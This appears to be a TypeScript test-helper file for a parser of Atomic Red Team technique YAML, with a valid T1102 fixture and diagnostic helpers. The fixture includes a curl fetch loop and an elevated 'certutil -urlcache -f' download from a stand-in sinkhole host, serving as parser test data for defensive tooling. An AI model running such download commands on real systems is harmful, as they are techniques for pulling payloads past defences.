import { InputError } from "../../src/base/diagnostic.ts";
import { position } from "../../src/base/source.ts";
import { readAtomics } from "../../src/atomic/read-atomics.ts";
import type { AtomicTechnique } from "../../src/atomic/types.ts";

/** Where the technique of every test lies. */
export const file = "atomics/T1102/T1102.yaml";

/** A technique that breaks no rule: one test for each kind of executor. */
export const valid = `attack_technique: T1102
display_name: Web Service
atomic_tests:
- name: Fetch a paste
  auto_generated_guid: 2f1d1a52-5a39-4a0b-8d2b-6f4b1c0f1a01
  description: |
    Fetches a paste with curl.
  supported_platforms:
  - linux
  - macos
  input_arguments:
    service_url:
      description: where it is fetched from
      type: url
      default: https://sinkhole.example
    marker:
      description: names the run
      type: String
      default: run-1
    tries:
      description: how often
      type: integer
      default: 3
    pause:
      description: seconds between them
      type: Float
      default: 0.5
    out-file:
      description: where it is put
      type: Path
      default: /tmp/paste
  dependency_executor_name: sh
  dependencies:
  - description: |
      curl is there
    prereq_command: |
      command -v curl
    get_prereq_command: |
      echo "install curl, then try #{tries} times"
  executor:
    name: bash
    command: |
      for try in $(seq #{tries}); do
        curl -o "#{out-file}" "#{service_url}/#{marker}"
        sleep #{pause}
      done
    cleanup_command: |
      rm -f "#{out-file}"
- name: Follow a link
  auto_generated_guid: 9B0E2C41-3C55-4F0B-9C1C-1F7A4F6D2B02
  description: A person does it.
  supported_platforms:
  - windows
  - office-365
  executor:
    name: manual
    steps: |
      1. Open the link in the mail.
- name: Fetch with certutil
  auto_generated_guid: 6d8e6d5f-0f8b-4f64-9f43-2a1e7c9d3c03
  description: Fetches a file.
  supported_platforms:
  - windows
  dependencies:
  executor:
    name: command_prompt
    elevation_required: true
    command: certutil.exe -urlcache -f http://sinkhole.example/x x
    cleanup_command:
`;

/** The technique in `text`. */
export function techniqueOf(text: string, path: string = file): AtomicTechnique {
  return readAtomics({ file: path, text });
}

/** What is wrong with `text`: place, code and message of each mistake. */
export function problemsOf(text: string, path: string = file): readonly string[] {
  try {
    techniqueOf(text, path);
    return [];
  } catch (error) {
    if (!(error instanceof InputError)) throw error;
    return error.diagnostics.map(({ code, message, source, span }) => {
      if (source === undefined || span === undefined) return `? ${code} ${message}`;
      const { line, column } = position(source.text, span.start);
      return `${line}:${column} ${code} ${message}`;
    });
  }
}

/** `text` without its mark `»`, and the mark's place as `line:column`. */
export function unmark(text: string): { readonly text: string; readonly place: string } {
  const at = text.indexOf("»");
  if (at < 0) throw new Error("no mark");
  const plain = text.replace("»", "");
  const { line, column } = position(plain, at);
  return { text: plain, place: `${line}:${column}` };
}
